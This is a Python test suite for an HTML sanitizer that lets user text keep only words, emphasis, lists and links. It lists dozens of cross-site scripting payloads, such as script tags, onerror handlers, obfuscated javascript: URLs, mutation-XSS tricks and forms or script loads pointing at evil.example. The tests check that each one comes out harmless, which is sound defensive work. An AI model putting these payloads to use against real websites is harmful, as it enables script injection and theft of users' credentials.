"""What people typed never becomes more than words, emphasis, lists and links."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parties.clean import SCHEMES, TAGS, as_typed, clean_html, typed_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))" class="utrecht-button" id="inhoud">hoi</p>',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href=" jAvAsCrIpT:alert(1)">klik</a>',
    '<a href="java\tscript:alert(1)">klik</a>',
    '<a href="java&#x0A;script:alert(1)">klik</a>',
    '<a href="&#106;&#97;vascript:alert(1)">klik</a>',
    '<a href="\x01javascript:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="https://ok.example" onmouseover="alert(1)" target="_top">klik</a>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><b><script>alert(1)",
    "<a href='https://a.example'><a href='javascript:alert(1)'>x</a></a>",
    "<p\x00 onclick=alert(1)>x</p>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class Allowed(HTMLParser):
    """Reads HTML as a browser would, and remembers what may not stand in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if (tag, name) == ("a", "href"):
                if urlsplit(value or "").scheme not in {*SCHEMES, ""}:
                    self.wrong.append(f"href {value}")
            elif (tag, name, value) != ("a", "rel", "noopener noreferrer"):
                self.wrong.append(f"{tag} {name}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")

    unknown_decl = handle_decl

    def handle_pi(self, data: str) -> None:
        self.wrong.append("instruction")


def test_the_judge_of_these_tests_sees_what_is_wrong() -> None:
    assert Allowed("<p onclick=x>a</p><script>b</script><a href='javascript:1'>c</a><!-- d -->").wrong == [
        "p onclick",
        "script",
        "href javascript:1",
        "comment",
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack: str) -> None:
    cleaned = clean_html(attack)
    assert Allowed(cleaned).wrong == []
    assert clean_html(cleaned) == cleaned


PIECES = [
    *(f"<{tag}>" for tag in sorted(TAGS)), *(f"</{tag}>" for tag in sorted(TAGS)),
    "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<noscript>", "</noscript>", "<table>", "<td>", "<select>",
    "<img src=x onerror=alert(1)>", "<a href=\"", "javascript:", "https://x.example", "\">", "'", '"', "<", ">", "&", "&lt;", "&#60;", "<!--", "-->",
    "<![CDATA[", "]]>", "\x00", "onload=", " ", "tekst", "<xmp>", "<textarea>", "</textarea>", "<title>", "<template>",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join) | st.text(max_size=60))
def test_whatever_is_typed_comes_out_harmless_and_stays_the_same(text: str) -> None:
    cleaned = clean_html(text)
    assert Allowed(cleaned).wrong == []
    assert clean_html(cleaned) == cleaned


def test_what_is_allowed_stays() -> None:
    html = "<h3>Vooraf</h3><p>Doe <strong>eerst</strong> de <em>module</em>.</p><ul><li>een</li></ul>"
    assert clean_html(html) == html
    assert clean_html('<p><a href="https://voorbeeld.example/a?b=1&amp;c=2">lees</a></p>') == (
        '<p><a href="https://voorbeeld.example/a?b=1&amp;c=2" rel="noopener noreferrer">lees</a></p>'
    )


def test_the_words_of_what_is_not_allowed_stay() -> None:
    assert clean_html("<div><h1>Kop</h1> en <span style='color:red'>tekst</span></div>") == "Kop en tekst"


def test_lines_become_paragraphs_only_where_there_are_none() -> None:
    assert typed_html("Eerste regel\n\nTweede & laatste") == "<p>Eerste regel</p>\n\n<p>Tweede &amp; laatste</p>"
    assert typed_html("<p>Al een\nalinea</p>") == "<p>Al een\nalinea</p>"
    assert typed_html("3 < 4 <b>dus</b>") == "<p>3 &lt; 4 <b>dus</b></p>"
    assert typed_html("  ") == ""


@pytest.mark.parametrize(
    ("kept", "typed"),
    [
        ("<p>Een dagdeel met een acteur.</p>", "Een dagdeel met een acteur."),
        ("<p>Eerste regel</p>\n\n<p>Tweede &amp; laatste</p>", "Eerste regel\n\nTweede & laatste"),
        ("<p>Drie<br>regels</p>", "Drie\nregels"),
        ("<p>Dit is <strong>vet</strong></p>", "Dit is <strong>vet</strong>"),
        ("<h3>Kop</h3><ul><li>een</li></ul>", "<h3>Kop</h3><ul><li>een</li></ul>"),
        ("", ""),
    ],
)
def test_what_was_typed_comes_back_into_the_field(kept: str, typed: str) -> None:
    assert as_typed(kept) == typed


@given(st.text(alphabet="ab \n&<>é1", max_size=60))
def test_saving_again_what_comes_back_changes_nothing(text: str) -> None:
    kept = typed_html(text)
    assert typed_html(as_typed(kept)) == kept
